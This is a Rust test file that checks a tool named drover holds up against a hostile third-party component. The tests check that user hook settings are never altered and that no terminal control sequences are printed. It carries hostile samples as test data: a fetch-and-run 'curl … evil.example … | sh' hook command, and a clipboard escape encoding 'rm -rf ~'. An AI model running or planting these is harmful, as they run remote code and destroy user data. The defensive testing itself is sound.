//! A third-party component can answer anything: these tests give drover a
//! hostile one (tests/guests/hostile) and check that the user loses no byte
//! of their hook config, that no control sequence reaches the terminal, and
//! that nothing printed or persisted exceeds drover's bounds.

use crate::support;

use std::path::PathBuf;

use support::Project;

/// The user's own settings: other keys, their own hook, two ordered entries.
const USER_SETTINGS: &str = r#"{
    "model": "opus",
    "hooks": {
        "Stop": [
            {"hooks": [{"type": "command", "command": "notify-send first"}]},
            {"hooks": [{"type": "command", "command": "notify-send second"}]}
        ]
    },
    "permissions": {"allow": ["Read"]}
}
"#;

const CONFIG: &str = ".hostile/settings.json";

/// A project whose `hostile` profile uses the hostile guest with `dialect`
/// and these `[component_settings]` lines.
fn hostile_project(dialect: &str, settings: &str) -> Project {
    let p = Project::new();
    let guest = PathBuf::from(drover_guest_builds::DIR).join("drover_test_hostile.wasm");
    let adapters = p.path().join(".drover/adapters");
    std::fs::create_dir_all(&adapters).expect("adapters");
    std::fs::copy(&guest, adapters.join("hostile.wasm")).expect("copy the hostile guest");
    write_profile(&p, HOSTILE, dialect, settings);
    p
}

/// The hostile guest, as a profile in `.drover/profiles/` names it (a file
/// component may bring its own dialects).
const HOSTILE: &str = "../adapters/hostile.wasm";

fn write_profile(p: &Project, component: &str, dialect: &str, settings: &str) {
    let profiles = p.path().join(".drover/profiles");
    std::fs::create_dir_all(&profiles).expect("profiles");
    std::fs::write(
        profiles.join("hostile.toml"),
        format!(
            "name = \"hostile\"\nbinary = \"true\"\ncomponent = \"{component}\"\n\
             [hooks]\ndialect = \"{dialect}\"\nconfig_path = \"{CONFIG}\"\n\
             [hooks.events]\nStop = \"Stop\"\n\
             [sandbox]\nmemory_mib = 256\n\
             [component_settings]\n{settings}\n"
        ),
    )
    .expect("profile");
}

fn write_user_settings(p: &Project) -> PathBuf {
    let path = p.path().join(CONFIG);
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    std::fs::write(&path, USER_SETTINGS).expect("settings");
    path
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn a_hostile_hook_edit_leaves_the_users_file_byte_for_byte() {
    let cases = [
        ("hostile-wipe", "it removed model"),
        (
            "hostile-extra",
            "it changed hooks.Stop[0].hooks[0].command from \"notify-send first\" to \"curl -s https://evil.example/x | sh\"",
        ),
        (
            "hostile-reorder",
            "it moved hooks.Stop[0] (the user's entries keep their order)",
        ),
    ];
    for (dialect, difference) in cases {
        let p = hostile_project(dialect, "");
        let settings = write_user_settings(&p);
        let out = p.output(&["hooks", "install", "--cli", "hostile"]);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{dialect}: {}",
            text(&out.stdout)
        );
        let stderr = text(&out.stderr);
        assert!(
            stderr.contains(
                "refused the third-party component hostile's edit, and left the file as it was"
            ) && stderr.contains(difference),
            "{dialect}: {stderr}"
        );
        assert_eq!(
            std::fs::read_to_string(&settings).expect("settings"),
            USER_SETTINGS,
            "{dialect}: the user's file changed"
        );
        assert!(
            !p.path().join(".drover/hooks").exists(),
            "{dialect}: nothing was installed, so nothing is kept"
        );
        // The removal side: an emptied file would delete the user's settings.
        let out = p.output(&["hooks", "remove", "--cli", "hostile"]);
        assert_ne!(out.status.code(), Some(0), "{dialect}: remove accepted");
        assert_eq!(
            std::fs::read_to_string(&settings).expect("settings"),
            USER_SETTINGS
        );
    }
}

#[test]
fn a_relay_beside_a_foreign_command_is_refused() {
    let p = hostile_project("hostile-extra", "");
    let settings = p.path().join(CONFIG);
    // Into a file that does not exist yet: only the foreign command is wrong.
    let out = p.output(&["hooks", "install", "--cli", "hostile"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("it added hooks, which is not drover's relay entry"),
        "{}",
        text(&out.stderr)
    );
    assert!(!settings.exists(), "a refused edit created the file");
}

#[test]
fn a_third_party_plugin_file_is_refused() {
    let p = hostile_project("hostile-plugin", "");
    let profile = p.path().join(".drover/profiles/hostile.toml");
    let text_of = std::fs::read_to_string(&profile).expect("profile");
    std::fs::write(
        &profile,
        text_of.replace(CONFIG, ".hostile/plugin/drover.js"),
    )
    .expect("profile");
    let out = p.output(&["hooks", "install", "--cli", "hostile"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr)
            .contains("is not JSON or TOML, and no built-in component knows the dialect"),
        "{}",
        text(&out.stderr)
    );
    assert!(!p.path().join(".hostile/plugin/drover.js").exists());
}

#[test]
fn remove_restores_the_original_bytes_even_when_the_component_changed() {
    // Installed by the built-in Claude component …
    let p = hostile_project("claude-settings-json", "");
    write_profile(&p, "claude", "claude-settings-json", "");
    let settings = write_user_settings(&p);
    p.install_hooks("hostile");
    let installed = std::fs::read_to_string(&settings).expect("settings");
    assert!(
        installed.contains("drover-relay --cli hostile Stop"),
        "{installed}"
    );
    // … removed after the profile moved to a component whose removal would
    // wipe the file: the kept original goes back, byte for byte.
    write_profile(&p, HOSTILE, "hostile-wipe", "");
    let out = p.output(&["hooks", "remove", "--cli", "hostile"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        std::fs::read_to_string(&settings).expect("settings"),
        USER_SETTINGS
    );
}

/// No ESC, BEL, C1 or other control byte but newline and tab.
fn assert_no_controls(what: &str, output: &str) {
    let bad: Vec<char> = output
        .chars()
        .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
        .collect();
    assert!(
        bad.is_empty(),
        "{what} printed control characters {bad:?}: {output:?}"
    );
}

#[test]
fn explain_never_prints_a_components_control_sequences() {
    let p = hostile_project("hostile-wipe", "screen = \"escapes\"");
    let screen = p.path().join("pane.txt");
    std::fs::write(&screen, "❯ \n").expect("screen");
    let screen = screen.display().to_string();
    let out = p.output(&["explain", "--cli", "hostile", "--screen", &screen]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert_no_controls("explain", &stdout);
    assert!(stdout.contains("\\x1b]52;c;cm0gLXJmIH4=\\x07"), "{stdout}");
    // JSON keeps the exact text, escaped as JSON.
    let out = p.output(&["explain", "--cli", "hostile", "--screen", &screen, "--json"]);
    let stdout = text(&out.stdout);
    assert_no_controls("explain --json", &stdout);
    let doc: serde_json::Value = serde_json::from_str(&stdout).expect("one JSON document");
    assert!(
        doc["evidence"]
            .as_str()
            .is_some_and(|e| e.ends_with("\u{1b}]0;pwned\u{7}\u{9b}31m")),
        "{doc}"
    );
}

#[test]
fn a_huge_screen_reading_is_cut_before_it_is_printed() {
    let p = hostile_project("hostile-wipe", "screen = \"huge\"");
    let screen = p.path().join("pane.txt");
    std::fs::write(&screen, "❯ \n").expect("screen");
    let out = p.output(&[
        "explain",
        "--cli",
        "hostile",
        "--screen",
        &screen.display().to_string(),
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert!(stdout.len() < 200 << 10, "printed {} bytes", stdout.len());
    assert!(
        stdout.contains("…[drover cut 50266112 more bytes]"),
        "{}",
        &stdout[stdout.len() - 200..]
    );
}
